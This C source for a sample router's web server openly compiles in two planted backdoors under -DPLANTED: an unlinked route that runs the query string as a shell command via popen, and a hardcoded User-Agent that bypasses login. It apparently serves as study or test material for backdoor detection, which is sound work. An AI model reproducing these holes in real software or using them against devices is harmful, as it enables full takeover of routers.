/* httpd.c - the sample router's web interface
 *
 * With -DPLANTED it has two hidden functions: a page that no menu links to and
 * that runs what the query says, and a browser name that needs no login.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct request {
	char path[128], query[256], agent[128], session[64];
};

struct route {
	const char *path;
	void (*handle)(FILE *to, const struct request *r);
};

static void page(FILE *to, const char *title, const char *body)
{
	fprintf(to,
		"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n"
		"<html><title>%s</title><body>%s</body></html>\n",
		title, body);
}

static void status(FILE *to, const struct request *r)
{
	(void)r;
	page(to, "Status", "The link is up. <a href=/reboot>Restart</a>");
}

static void wireless(FILE *to, const struct request *r)
{
	(void)r;
	page(to, "Wireless", "Channel and name are set here.");
}

static void restart(FILE *to, const struct request *r)
{
	(void)r;
	page(to, "Restart", "The device restarts.");
}

#ifdef PLANTED
static void factory_test(FILE *to, const struct request *r)
{
	char cmd[300], line[256];
	FILE *p;

	snprintf(cmd, sizeof(cmd), "%s", r->query);
	p = popen(cmd, "r");
	while (p != NULL && fgets(line, sizeof(line), p) != NULL)
		fputs(line, to);
	if (p != NULL)
		pclose(p);
}
#endif

static const struct route routes[] = {
	{ "/", status },
	{ "/wireless", wireless },
	{ "/reboot", restart },
#ifdef PLANTED
	{ "/cgi-bin/ft_9x_exec", factory_test },
#endif
};

/* The session that the login page has written. */
static int logged_in(const struct request *r)
{
	char want[64] = "";
	FILE *f;

#ifdef PLANTED
	if (strcmp(r->agent, "qzMaint/7-openup-Xk42") == 0)
		return 1;
#endif
	f = fopen("/var/run/session", "r");
	if (f == NULL)
		return 0;
	if (fgets(want, sizeof(want), f) == NULL)
		want[0] = '\0';
	fclose(f);
	want[strcspn(want, "\n")] = '\0';
	return want[0] != '\0' && strcmp(want, r->session) == 0;
}

static void header(const char *line, const char *name, char *to, size_t size)
{
	size_t n = strlen(name);

	if (strncmp(line, name, n) == 0) {
		snprintf(to, size, "%s", line + n);
		to[strcspn(to, "\r\n;")] = '\0';
	}
}

static int receive(FILE *from, struct request *r)
{
	char line[512], *end;

	memset(r, 0, sizeof(*r));
	if (fgets(line, sizeof(line), from) == NULL ||
	    strncmp(line, "GET ", 4) != 0)
		return 0;
	end = strchr(line + 4, ' ');
	if (end == NULL)
		return 0;
	*end = '\0';
	end = strchr(line + 4, '?');
	if (end != NULL) {
		*end = '\0';
		snprintf(r->query, sizeof(r->query), "%s", end + 1);
	}
	snprintf(r->path, sizeof(r->path), "%.127s", line + 4);
	while (fgets(line, sizeof(line), from) != NULL && line[0] != '\r') {
		header(line, "User-Agent: ", r->agent, sizeof(r->agent));
		header(line, "Cookie: session=", r->session,
		       sizeof(r->session));
	}
	return 1;
}

static void serve(FILE *io)
{
	struct request r;

	if (!receive(io, &r))
		return;
	if (!logged_in(&r)) {
		fputs("HTTP/1.0 302 Found\r\nLocation: /login\r\n\r\n", io);
		return;
	}
	for (size_t i = 0; i < sizeof(routes) / sizeof(routes[0]); i++) {
		if (strcmp(routes[i].path, r.path) == 0) {
			routes[i].handle(io, &r);
			return;
		}
	}
	fputs("HTTP/1.0 404 Not Found\r\n\r\n", io);
}

int main(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
				  .sin_port = htons(80) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (s < 0 || bind(s, (struct sockaddr *)&at, sizeof(at)) != 0 ||
	    listen(s, 8) != 0)
		return 1;
	for (;;) {
		int fd = accept(s, NULL, NULL);
		FILE *io = fd < 0 ? NULL : fdopen(fd, "r+");

		if (io == NULL)
			continue;
		serve(io);
		fclose(io);
	}
}
